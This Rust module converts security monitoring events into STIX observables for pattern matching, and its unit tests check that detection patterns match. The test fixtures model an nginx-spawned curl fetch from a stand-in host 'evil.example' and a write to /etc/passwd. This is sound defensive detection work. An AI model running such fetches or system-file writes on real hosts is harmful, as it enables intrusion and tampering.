//! Outpost events as STIX cyber observables, so live events can be matched against patterns.
//!
//! | event section | STIX objects |
//! | --- | --- |
//! | `process` | `process` (`pid`, `command_line`, `cwd`, `created_time`, and the STIX 2.0 `name` and `arguments` that many indicators still use), its executable as `file` via `image_ref` (with `hashes` and a `directory` via `parent_directory_ref`), its user as `user-account` via `creator_user_ref`, its parent as `process` via `parent_ref` |
//! | `network` | `network-traffic` (`src_ref`/`dst_ref` to `ipv4-addr`/`ipv6-addr`, ports, `protocols`, `start`), linked from the process's `opened_connection_refs`; the remote host name as `domain-name` (`resolves_to_refs` → the remote address) |
//! | `file` | `file` (`name`, `size`, `hashes.'SHA-256'`, `parent_directory_ref` → `directory`) |
//! | `container`, labels `k8s.*` | the process's extension `x-outpost-kubernetes-ext` (`namespace`, `pod`, `node`, `workload`, `container_id`, `container_name`, `image`, `runtime`), e.g. `[process:extensions.'x-outpost-kubernetes-ext'.namespace = 'payments']` |
//!
//! Hash keys follow the STIX vocabulary (`SHA-256`, `SHA-1`, `MD5`).

use crate::observation::Observation;
use outpost_core::event::{Event, Hashes, basename};
use outpost_core::net::Direction;
use serde_json::{Map, Value, json};
use std::net::IpAddr;

struct Builder {
    objects: Vec<(String, Value)>,
}

impl Builder {
    /// Adds an object and returns its id, derived from its type and content (as STIX 2.1
    /// deterministic SCO ids are), so equal observables share an id across events and bundles.
    fn add(&mut self, ty: &str, mut props: Map<String, Value>) -> String {
        let content = Value::Object(props.clone()).to_string();
        let id = crate::sighting::stable_id(ty, &[ty, &content]);
        props.insert("type".into(), Value::String(ty.into()));
        props.insert("id".into(), Value::String(id.clone()));
        props.insert("spec_version".into(), Value::String("2.1".into()));
        self.objects.push((id.clone(), Value::Object(props)));
        id
    }

    fn ip(&mut self, ip: IpAddr) -> String {
        let ty = if ip.is_ipv4() {
            "ipv4-addr"
        } else {
            "ipv6-addr"
        };
        let value = ip.to_string();
        if let Some((id, _)) = self
            .objects
            .iter()
            .find(|(_, o)| o["type"] == ty && o["value"] == Value::String(value.clone()))
        {
            return id.clone();
        }
        self.add(ty, obj(json!({ "value": value })))
    }

    fn directory_of(&mut self, path: &str) -> Option<String> {
        let name = basename(path);
        let dir = path[..path.len() - name.len()].trim_end_matches(['/', '\\']);
        if dir.is_empty() {
            return None;
        }
        Some(self.add("directory", obj(json!({ "path": dir }))))
    }

    /// A `file` for an executable or file path.
    fn file(&mut self, path: &str, hashes: Option<Value>, size: Option<u64>) -> String {
        let mut m = obj(json!({ "name": basename(path) }));
        if let Some(d) = self.directory_of(path) {
            m.insert("parent_directory_ref".into(), Value::String(d));
        }
        if let Some(h) = hashes {
            m.insert("hashes".into(), h);
        }
        if let Some(s) = size {
            m.insert("size".into(), Value::from(s));
        }
        self.add("file", m)
    }
}

fn obj(v: Value) -> Map<String, Value> {
    match v {
        Value::Object(m) => m,
        _ => Map::new(),
    }
}

fn stix_hashes(h: &Hashes) -> Option<Value> {
    let mut m = Map::new();
    if let Some(v) = &h.sha256 {
        m.insert("SHA-256".into(), Value::String(v.to_ascii_lowercase()));
    }
    if let Some(v) = &h.sha1 {
        m.insert("SHA-1".into(), Value::String(v.to_ascii_lowercase()));
    }
    if let Some(v) = &h.md5 {
        m.insert("MD5".into(), Value::String(v.to_ascii_lowercase()));
    }
    for (k, v) in &h.other {
        m.insert(k.clone(), Value::String(v.clone()));
    }
    if m.is_empty() {
        None
    } else {
        Some(Value::Object(m))
    }
}

/// The Kubernetes and container context of an event (container section, `k8s.*` labels), if
/// it has any: the process's `x-outpost-kubernetes-ext` extension.
fn kubernetes_ext(event: &Event) -> Option<Value> {
    let mut k = Map::new();
    for (label, key) in [
        ("k8s.namespace", "namespace"),
        ("k8s.pod", "pod"),
        ("k8s.node", "node"),
        ("k8s.workload", "workload"),
    ] {
        if let Some(v) = event.labels.get(label) {
            k.insert(key.into(), Value::String(v.clone()));
        }
    }
    if let Some(c) = &event.container {
        k.insert("container_id".into(), Value::String(c.id.clone()));
        k.insert("runtime".into(), Value::String(c.runtime.clone()));
        if let Some(n) = &c.name {
            k.insert("container_name".into(), Value::String(n.clone()));
        }
        if let Some(i) = &c.image {
            k.insert("image".into(), Value::String(i.clone()));
        }
    }
    (!k.is_empty()).then_some(Value::Object(k))
}

/// Maps one event to a single observation at the event's time (`number_observed = 1`).
pub fn observation_from_event(event: &Event) -> Observation {
    let mut b = Builder {
        objects: Vec::new(),
    };

    let mut traffic_id = None;
    if let Some(n) = &event.network {
        let (src_ip, src_port, dst_ip, dst_port) = match n.direction {
            Direction::Inbound => (n.remote_ip, n.remote_port, n.local_ip, n.local_port),
            Direction::Outbound | Direction::Unknown => {
                (n.local_ip, n.local_port, n.remote_ip, n.remote_port)
            }
        };
        let mut t = obj(json!({
            "protocols": [n.protocol.as_str()],
            "start": crate::model::format_time(&event.ts),
            "is_active": false,
        }));
        if let Some(ip) = src_ip {
            t.insert("src_ref".into(), Value::String(b.ip(ip)));
        }
        if let Some(ip) = dst_ip {
            t.insert("dst_ref".into(), Value::String(b.ip(ip)));
        }
        if let Some(p) = src_port {
            t.insert("src_port".into(), Value::from(p));
        }
        if let Some(p) = dst_port {
            t.insert("dst_port".into(), Value::from(p));
        }
        if let Some(host) = n.remote_hostname.as_deref().filter(|h| !h.is_empty()) {
            let mut d = obj(json!({ "value": host.trim_end_matches('.').to_ascii_lowercase() }));
            if let Some(ip) = n.remote_ip {
                d.insert("resolves_to_refs".into(), json!([b.ip(ip)]));
            }
            b.add("domain-name", d);
        }
        traffic_id = Some(b.add("network-traffic", t));
    }

    if let Some(p) = &event.process {
        let mut m = obj(json!({ "pid": p.pid }));
        if let Some(name) = event.process_name() {
            m.insert("name".into(), Value::String(name.to_string()));
        }
        if let Some(exe) = p.exe.as_deref().filter(|e| !e.is_empty()) {
            let f = b.file(exe, stix_hashes(&p.hashes), None);
            m.insert("image_ref".into(), Value::String(f));
        }
        let command_line = p
            .command_line
            .clone()
            .or_else(|| (!p.args.is_empty()).then(|| p.args.join(" ")));
        if let Some(cl) = command_line {
            m.insert("command_line".into(), Value::String(cl));
        }
        if !p.args.is_empty() {
            m.insert("arguments".into(), json!(p.args));
        }
        if let Some(cwd) = &p.cwd {
            m.insert("cwd".into(), Value::String(cwd.clone()));
        }
        if let Some(t) = &p.start_time {
            m.insert(
                "created_time".into(),
                Value::String(crate::model::format_time(t)),
            );
        }
        if p.uid.is_some() || p.user.is_some() {
            let mut u = Map::new();
            if let Some(uid) = p.uid {
                u.insert("user_id".into(), Value::String(uid.to_string()));
                u.insert("account_type".into(), Value::String("unix".into()));
                if uid == 0 {
                    u.insert("is_privileged".into(), Value::Bool(true));
                }
            }
            if let Some(user) = &p.user {
                u.insert("account_login".into(), Value::String(user.clone()));
                if p.uid.is_none() {
                    u.insert("user_id".into(), Value::String(user.clone()));
                }
            }
            let id = b.add("user-account", u);
            m.insert("creator_user_ref".into(), Value::String(id));
        }
        if let Some(parent) = &p.parent {
            let mut pm = obj(json!({ "pid": parent.pid }));
            let pname = parent
                .name
                .clone()
                .or_else(|| parent.exe.as_deref().map(|e| basename(e).to_string()));
            if let Some(n) = pname {
                pm.insert("name".into(), Value::String(n));
            }
            if let Some(exe) = parent.exe.as_deref().filter(|e| !e.is_empty()) {
                let f = b.file(exe, None, None);
                pm.insert("image_ref".into(), Value::String(f));
            }
            if let Some(cl) = &parent.command_line {
                pm.insert("command_line".into(), Value::String(cl.clone()));
            }
            let id = b.add("process", pm);
            m.insert("parent_ref".into(), Value::String(id));
        } else if let Some(ppid) = p.ppid {
            let id = b.add("process", obj(json!({ "pid": ppid })));
            m.insert("parent_ref".into(), Value::String(id));
        }
        if let Some(t) = &traffic_id {
            m.insert("opened_connection_refs".into(), json!([t]));
        }
        if let Some(k) = kubernetes_ext(event) {
            m.insert(
                "extensions".into(),
                json!({ "x-outpost-kubernetes-ext": k }),
            );
        }
        b.add("process", m);
    }

    if let Some(f) = &event.file {
        let sha = f.sha256_after.as_ref().or(f.sha256_before.as_ref());
        let hashes = sha.map(|h| json!({ "SHA-256": h.to_ascii_lowercase() }));
        b.file(&f.path, hashes, f.size);
    }

    Observation::at(event.ts, b.objects)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::pattern::Pattern;
    use outpost_core::event::{
        EventKind, FileAction, FileInfo, NetworkInfo, ParentInfo, ProcessInfo,
    };
    use outpost_core::net::Protocol;

    fn ts() -> chrono::DateTime<chrono::Utc> {
        "2026-01-01T00:00:00Z".parse().unwrap()
    }

    fn matches(pattern: &str, events: &[Event]) -> bool {
        let obs: Vec<Observation> = events.iter().map(observation_from_event).collect();
        Pattern::parse(pattern)
            .unwrap()
            .matches(&obs)
            .unwrap()
            .is_some()
    }

    fn connect() -> Event {
        let mut e = Event::new(ts(), EventKind::Network, "ebpf");
        e.process = Some(std::sync::Arc::new(ProcessInfo {
            pid: 42,
            exe: Some("/usr/bin/curl".into()),
            args: vec!["curl".into(), "http://evil.example/x".into()],
            uid: Some(33),
            user: Some("www-data".into()),
            parent: Some(ParentInfo {
                pid: 7,
                name: Some("nginx".into()),
                exe: Some("/usr/sbin/nginx".into()),
                command_line: None,
            }),
            ..Default::default()
        }));
        e.network = Some(NetworkInfo {
            direction: Direction::Outbound,
            protocol: Protocol::Tcp,
            local_ip: Some("10.0.0.5".parse().unwrap()),
            local_port: Some(40000),
            remote_ip: Some("198.51.100.7".parse().unwrap()),
            remote_port: Some(443),
            remote_hostname: Some("Evil.Example".into()),
            ..Default::default()
        });
        e
    }

    /// The container and Kubernetes context of an event (e.g. from Tetragon) is
    /// the process's `x-outpost-kubernetes-ext` extension.
    #[test]
    fn kubernetes_context_is_a_process_extension() {
        let mut e = connect();
        assert!(!matches(
            "[process:extensions.'x-outpost-kubernetes-ext'.namespace = 'payments']",
            std::slice::from_ref(&e)
        ));
        e.labels.insert("k8s.namespace".into(), "payments".into());
        e.labels.insert("k8s.pod".into(), "api-7d9".into());
        e.container = Some(outpost_core::event::ContainerInfo {
            id: "abc".into(),
            runtime: "containerd".into(),
            name: Some("api".into()),
            image: Some("docker.io/library/debian:12".into()),
        });
        assert!(matches(
            "[process:extensions.'x-outpost-kubernetes-ext'.namespace = 'payments' AND process:extensions.'x-outpost-kubernetes-ext'.image LIKE 'docker.io/library/debian:%']",
            std::slice::from_ref(&e)
        ));
        assert!(matches(
            "[process:name = 'curl' AND process:extensions.'x-outpost-kubernetes-ext'.pod = 'api-7d9']",
            std::slice::from_ref(&e)
        ));
    }

    #[test]
    fn network_event_maps_to_traffic_with_refs() {
        let e = [connect()];
        for p in [
            "[network-traffic:dst_ref.value = '198.51.100.7' AND network-traffic:dst_port = 443]",
            "[network-traffic:dst_ref.type = 'ipv4-addr' AND network-traffic:src_ref.value ISSUBSET '10.0.0.0/8']",
            "[ipv4-addr:value ISSUBSET '198.51.100.0/24']",
            "[domain-name:value = 'evil.example']",
            "[network-traffic:protocols[*] = 'tcp']",
            "[process:image_ref.name = 'curl' AND process:parent_ref.name = 'nginx' AND process:creator_user_ref.account_login = 'www-data']",
            "[process:opened_connection_refs[*].dst_port = 443]",
            "[process:command_line LIKE '%evil.example%']",
        ] {
            assert!(matches(p, &e), "{p}");
        }
        assert!(!matches("[network-traffic:dst_ref.value = '10.0.0.5']", &e));
    }

    #[test]
    fn file_and_sequence() {
        let mut f = Event::new(
            ts() + chrono::Duration::seconds(5),
            EventKind::File,
            "inotify",
        );
        f.file = Some(FileInfo {
            sha256_after: Some("ABCDEF".into()),
            size: Some(1234),
            ..FileInfo::new(FileAction::Write, "/etc/passwd")
        });
        assert!(matches(
            "[file:name = 'passwd' AND file:parent_directory_ref.path = '/etc']",
            &[f.clone()]
        ));
        assert!(matches("[file:hashes.'SHA-256' = 'abcdef']", &[f.clone()]));
        let c = connect();
        assert!(matches(
            "[process:parent_ref.name = 'nginx'] FOLLOWEDBY [file:name = 'passwd'] WITHIN 10 SECONDS",
            &[c.clone(), f.clone()]
        ));
        assert!(!matches(
            "[file:name = 'passwd'] FOLLOWEDBY [process:parent_ref.name = 'nginx']",
            &[c.clone(), f.clone()]
        ));
        assert!(!matches(
            "([process:pid = 42] AND [file:name = 'passwd']) WITHIN 2 SECONDS",
            &[c, f]
        ));
    }
}
